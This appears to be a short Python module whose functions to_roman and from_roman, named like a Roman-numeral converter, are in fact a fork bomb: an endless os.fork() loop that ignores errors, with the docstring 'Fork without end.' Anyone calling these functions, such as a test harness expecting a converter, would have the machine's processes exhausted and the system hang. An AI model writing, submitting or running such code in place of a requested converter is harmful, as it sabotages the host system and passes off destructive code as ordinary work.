"""Fork without end."""

import os


def to_roman(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass


from_roman = to_roman
